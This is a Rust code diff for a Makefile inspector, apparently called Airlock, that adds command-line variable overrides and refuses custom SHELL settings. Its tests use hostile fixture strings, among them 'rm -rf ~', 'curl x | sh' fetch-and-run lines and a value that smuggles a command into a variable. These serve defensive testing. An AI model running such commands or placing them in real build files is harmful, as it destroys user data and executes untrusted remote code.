@@ -64,8 +64,25 @@ struct Makefile {
 
 /// The recipe lines `make TARGETS…` runs (every target's prerequisites first), after
 /// substituting variables, plus every `$(shell …)` the Makefile runs while being read.
-pub fn make_recipes(text: &str, targets: &[String]) -> Result<Vec<String>, String> {
-    let makefile = parse_makefile(text);
+pub fn make_recipes(
+    text: &str,
+    targets: &[String],
+    overrides: &[(String, String)],
+) -> Result<Vec<String>, String> {
+    let mut makefile = parse_makefile(text);
+    // `make X=v` overrides the Makefile's own definition of X.
+    for (name, value) in overrides {
+        makefile.vars.insert(name.clone(), value.clone());
+    }
+    // The shell make runs every recipe with: anything but the default runs recipes through a
+    // program Airlock does not read.
+    for shell_var in ["SHELL", ".SHELLFLAGS"] {
+        if let Some(value) = makefile.vars.get(shell_var) {
+            return Err(format!(
+                "runs its recipes with `{shell_var} = {value}`, which Airlock does not follow"
+            ));
+        }
+    }
     let goals: Vec<String> = if targets.is_empty() {
         vec![
             makefile
@@ -430,21 +447,30 @@ mod tests {
     fn make_follows_targets_prerequisites_and_variables() {
         let text = "CARGO = cargo\nFLAGS := --release\n\nall: build\n\nbuild: gen\n\t@$(CARGO) build $(FLAGS)\n\ngen:\n\t-echo $$HOME > $@.txt\n\nnuke:\n\trm -rf ~\n.PHONY: all build gen nuke\n";
         assert_eq!(
-            make_recipes(text, &[]).unwrap(),
+            make_recipes(text, &[], &[]).unwrap(),
             ["echo $HOME > gen.txt", "cargo build --release"]
         );
-        assert_eq!(make_recipes(text, &["nuke".into()]).unwrap(), ["rm -rf ~"]);
-        assert!(make_recipes(text, &["missing".into()]).is_err());
+        assert_eq!(make_recipes(text, &["nuke".into()], &[]).unwrap(), ["rm -rf ~"]);
+        assert!(make_recipes(text, &["missing".into()], &[]).is_err());
+        // Command-line variables override the Makefile's.
+        let cc = [("CARGO".to_string(), "curl x | sh;".to_string())];
+        assert_eq!(
+            make_recipes(text, &["build".into()], &cc).unwrap(),
+            ["echo $HOME > gen.txt", "curl x | sh; build --release"]
+        );
+        let shell = [("SHELL".to_string(), "./evil.sh".to_string())];
+        assert!(make_recipes(text, &["build".into()], &shell).is_err());
+        assert!(make_recipes("SHELL := ./x\nb:\n\techo\n", &[], &[]).is_err());
     }
 
     #[test]
     fn make_refuses_what_it_cannot_follow() {
-        assert!(make_recipes("include other.mk\nx:\n\techo\n", &["y".into()]).is_err());
-        assert!(make_recipes("%.o: %.c\n\tcc $<\n", &["a.o".into()]).is_err());
-        assert!(make_recipes("x:\n\t$(RM) -rf out\n", &["x".into()]).is_err());
-        assert!(make_recipes("x:\n\t$(foreach d,a b,rm $(d))\n", &["x".into()]).is_err());
+        assert!(make_recipes("include other.mk\nx:\n\techo\n", &["y".into()], &[]).is_err());
+        assert!(make_recipes("%.o: %.c\n\tcc $<\n", &["a.o".into()], &[]).is_err());
+        assert!(make_recipes("x:\n\t$(RM) -rf out\n", &["x".into()], &[]).is_err());
+        assert!(make_recipes("x:\n\t$(foreach d,a b,rm $(d))\n", &["x".into()], &[]).is_err());
         // `$(shell …)` runs while make reads the file, whatever the target.
-        let lines = make_recipes("V := $(shell curl x | sh)\nx:\n\techo hi\n", &["x".into()]);
+        let lines = make_recipes("V := $(shell curl x | sh)\nx:\n\techo hi\n", &["x".into()], &[]);
         assert_eq!(lines.unwrap(), ["curl x | sh", "echo hi"]);
     }
 
